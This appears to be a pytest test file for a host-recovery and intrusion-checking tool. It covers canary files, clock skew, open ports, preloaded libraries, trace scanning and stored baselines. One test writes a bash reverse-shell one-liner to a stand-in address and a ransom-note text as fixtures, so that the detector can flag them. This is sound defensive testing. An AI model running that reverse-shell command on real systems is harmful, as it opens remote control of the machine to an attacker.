"""What the agent knows of itself, the sweep over all checks, the settings, and the kept baseline."""

from __future__ import annotations

import hashlib
import socket
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from typing import ClassVar

import pytest
from tests.support.small_root import SmallRoot

from garde.errors import SettingsError
from garde.model.restart import Item
from garde.recovery.checks import running, store
from garde.recovery.checks.base import MOST_FOUND, Baseline, Canary, Check, Given, Said, said
from garde.recovery.checks.config import FILE, GateSettings, given, read_gate
from garde.recovery.checks.guard import Bait, Clock, Enforcing, Ports
from garde.recovery.checks.machine import Machine
from garde.recovery.checks.sweep import CHECKS, sweep
from garde.recovery.checks.traces import Traces
from garde.watch import bait


def ask(check: Check, **known: object) -> Said:
    return check(Machine(Given(**known)))  # type: ignore[arg-type]


# --- the agent, its bait, the clock, the ports ------------------------------------------------------------------------


def test_only_an_agent_that_holds_is_enough() -> None:
    assert ask(Enforcing(), mode_asked="enforce", mode_in_force="enforce").answer == "yes"
    assert ask(Enforcing(), mode_asked="enforce", mode_in_force="watching only").answer == "no"
    assert ask(Enforcing(), mode_asked="observe", mode_in_force="observe").answer == "no"
    assert ask(Enforcing()).answer == "unknown"


def test_the_bait_must_stand_as_it_was_placed(tmp_path: Path) -> None:
    standing = bait.place(bytes(tmp_path))
    placed = tuple(Canary(*each) for each in bait.expected(bytes(tmp_path)))
    assert [each.path for each in placed] == standing
    assert ask(Bait(), bait=placed).answer == "yes"
    first, last = (Path(each.path.decode()) for each in placed)
    first.write_text("encrypted")
    last.unlink()
    said_ = ask(Bait(), bait=placed)
    assert [line.partition(":")[0] for line in said_.found] == ["bait was changed", "bait is missing"]
    first.unlink()
    first.mkdir()
    assert ask(Bait(), bait=placed[:1]).answer == "no"
    assert ask(Bait()).answer == ask(Bait(), bait=()).answer == "unknown"


@pytest.mark.parametrize(
    ("offset", "answer"), [(0.0, "yes"), (-4.9, "yes"), (5.1, "no"), (-3600.0, "no"), (None, "unknown")]
)
def test_the_clock_may_be_off_by_so_much(offset: float | None, answer: str) -> None:
    assert ask(Clock(), hub_offset=offset).answer == answer


def test_a_clock_that_is_off_says_which_way() -> None:
    assert ask(Clock(), hub_offset=60.0).found == ("the clock is 60 s behind",)
    assert ask(Clock(), hub_offset=-60.0).found == ("the clock is 60 s ahead",)


def test_a_port_beyond_the_loopback_must_be_listed() -> None:
    with socket.create_server(("0.0.0.0", 0)) as server, socket.create_server(("127.0.0.1", 0)) as inner:
        port, own = server.getsockname()[1], inner.getsockname()[1]
        found = ask(Ports(), listed_ports=()).found
        others = tuple(number for number in running.tcp_ports() if number != port)
        assert any(f": {port} (" in line and "python" in line for line in found)
        assert not any(f": {own} (" in line for line in found)
        assert not any(f": {port} (" in line for line in ask(Ports(), listed_ports=(port, *others)).found)
    assert ask(Ports()).answer == "unknown"


# --- what runs --------------------------------------------------------------------------------------------------------


def test_a_new_listener_and_its_program_are_seen(tmp_path: Path) -> None:
    script = tmp_path / "listens.py"
    script.write_text("import socket\nserver = socket.create_server(('127.0.0.1', 0))\nprint(flush=True)\ninput()\n")
    before = running.listeners()
    with subprocess.Popen([sys.executable, str(script)], stdin=subprocess.PIPE, stdout=subprocess.PIPE) as process:
        assert process.stdout
        process.stdout.readline()
        new = {name: program for name, program in running.listeners().items() if name not in before}
        process.kill()
    assert any(name.startswith("tcp 127.0.0.1 ephemeral ") and str(script) in program for name, program in new.items())


def test_a_process_with_a_forced_library_is_seen_and_its_other_words_are_not() -> None:
    words = [sys.executable, "-c", "input()", "--password=secret"]
    with subprocess.Popen(
        words, stdin=subprocess.PIPE, env={"LD_AUDIT": "/usr/lib/none.so"}, stderr=subprocess.PIPE
    ) as it:
        seen = {name: what for name, what in running.preloads().items() if "none.so" in what}
        assert list(seen.values()) == ["LD_AUDIT=/usr/lib/none.so"]
        assert "secret" not in str(seen)
        it.kill()


# --- the sweep --------------------------------------------------------------------------------------------------------


class Breaks:
    name: ClassVar[str] = "breaks"
    item: ClassVar[Item] = Item.NETWORK

    def __call__(self, machine: Machine) -> Said:
        raise RuntimeError("the disk is gone")


class Lines:
    name: ClassVar[str] = "lines"
    item: ClassVar[Item] = Item.WATCHED

    def __call__(self, machine: Machine) -> Said:
        return said(self, [f"line {number} {'x' * 5000}" for number in range(200)])


def test_every_item_is_answered_once_and_the_gravest_check_counts() -> None:
    swept = sweep(Given(hub_offset=0.0), (Clock(), Enforcing(), Lines(), Ports()))
    answers = {each.item: each for each in swept.answers}
    assert set(answers) == {"watched", "network"}
    assert answers["watched"].answer == "no"
    assert answers["network"].answer == "unknown"
    assert swept.baseline == ""
    assert answers["watched"].found[0].value == b"agent: no agent said in which mode it is"
    assert len(answers["watched"].found) == MOST_FOUND
    assert all(len(line.shown()) <= 500 for line in answers["watched"].found)
    assert len(answers["watched"].found) + answers["watched"].more == 201


def test_a_check_that_breaks_is_unknown_and_the_others_are_asked() -> None:
    swept = sweep(Given(hub_offset=0.0), (Breaks(), Clock()))
    assert [(each.item, each.answer) for each in swept.answers] == [("watched", "yes"), ("network", "unknown")]
    assert swept.said[0].found == ("the check broke: RuntimeError: the disk is gone",)


def test_all_checks_together_say_which_baseline_they_compared_with(tmp_path: Path) -> None:
    small = SmallRoot(tmp_path / "root")
    asked = small.given(small.baseline(), tmp_path / "kept.json")
    swept = sweep(asked)
    assert swept.baseline == asked.believed
    assert {each.item for each in swept.answers} == {"rebuilt", "watched", "network"}
    assert {each.name for each in CHECKS} == {each.check for each in swept.said}
    assert not any("broke" in line for each in swept.said for line in each.found), swept.said


def test_a_trace_is_found_where_anybody_may_write(tmp_path: Path) -> None:
    small = SmallRoot(tmp_path / "root")
    asked = replace(small.given(small.baseline(), tmp_path / "kept.json"), scan=(Path("/srv/share"),))
    assert Traces()(Machine(asked)).answer == "yes"
    small.write("var/tmp/.x", "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n")
    note = "Your files have been encrypted. Tor Browser. Bitcoin."
    small.write("srv/share/READ_ME.txt", note)
    assert set(Traces()(Machine(asked)).found) == {
        "rule: reverse_shell: /var/tmp/.x", "rule: ransom_note: /srv/share/READ_ME.txt",
    }  # fmt: skip


def test_a_sweep_that_was_not_whole_is_unknown(tmp_path: Path) -> None:
    small = SmallRoot(tmp_path / "root")
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules/bad.yar").write_text("rule x {")
    asked = replace(small.given(small.baseline(), tmp_path / "kept.json"), rules=tmp_path / "rules")
    assert Traces()(Machine(asked)).answer == "unknown"
    assert Traces()(Machine(replace(asked, rules=None, sweep_s=0.0))).answer == "unknown"


# --- settings ---------------------------------------------------------------------------------------------------------


def test_the_settings_shown_in_the_documents_can_be_read(tmp_path: Path, root: Path) -> None:
    text = (root / "docs/recovery.md").read_text(encoding="utf-8")
    (tmp_path / FILE).write_text(text.split("### gate.toml")[1].split("```toml\n")[1].split("```")[0], encoding="utf-8")
    found = read_gate(tmp_path)
    assert found.scan == ("/srv/share",)
    assert given(found, now=1.0).also == (b"/srv/app",)


def test_without_a_file_the_defaults_hold(tmp_path: Path) -> None:
    assert read_gate(tmp_path) == GateSettings()
    assert given(GateSettings()).live
    assert not given(GateSettings(root="/srv/lab/files1")).live
    assert given(GateSettings(root="/srv/lab/files1", live=True)).live


@pytest.mark.parametrize(
    "text", ["rules = 3", "what = 1", "scan = ['srv']", "clock_s = 0", "rules = ", "sweep_s = -1", "lists_days = 'x'"]
)
def test_a_wrong_setting_is_named(tmp_path: Path, text: str) -> None:
    (tmp_path / FILE).write_text(text)
    with pytest.raises(SettingsError, match=r"gate\.toml"):
        read_gate(tmp_path)


# --- the kept baseline ------------------------------------------------------------------------------------------------

PARTS = Baseline(1.5, {"files": {"/etc/a": "f 0644 0:0 00 - -"}}, ("x: y",))


def test_a_baseline_comes_back_as_it_was_and_is_for_its_owner_alone(tmp_path: Path) -> None:
    file = tmp_path / "kept.json"
    digest = store.write(PARTS, file)
    assert store.read(file, digest) == (PARTS, digest)
    assert file.stat().st_mode & 0o777 == 0o600
    assert hashlib.sha256(file.read_bytes()).hexdigest() == digest


@pytest.mark.parametrize("text", ["", "{", "[]", '{"form": 1}', '{"form":2,"taken_at":1,"parts":{},"skipped":[]}'])
def test_what_is_no_baseline_is_refused_in_one_line(tmp_path: Path, text: str) -> None:
    (tmp_path / "kept.json").write_text(text)
    with pytest.raises(store.BaselineUnusable) as caught:
        store.read(tmp_path / "kept.json")
    assert "\n" not in str(caught.value)


def test_another_baseline_than_the_believed_one_is_refused(tmp_path: Path) -> None:
    store.write(PARTS, tmp_path / "kept.json")
    with pytest.raises(store.BaselineUnusable, match="replaced or changed"):
        store.read(tmp_path / "kept.json", "00" * 32)
    with pytest.raises(store.BaselineUnusable, match="ever taken"):
        store.read(tmp_path / "none.json")
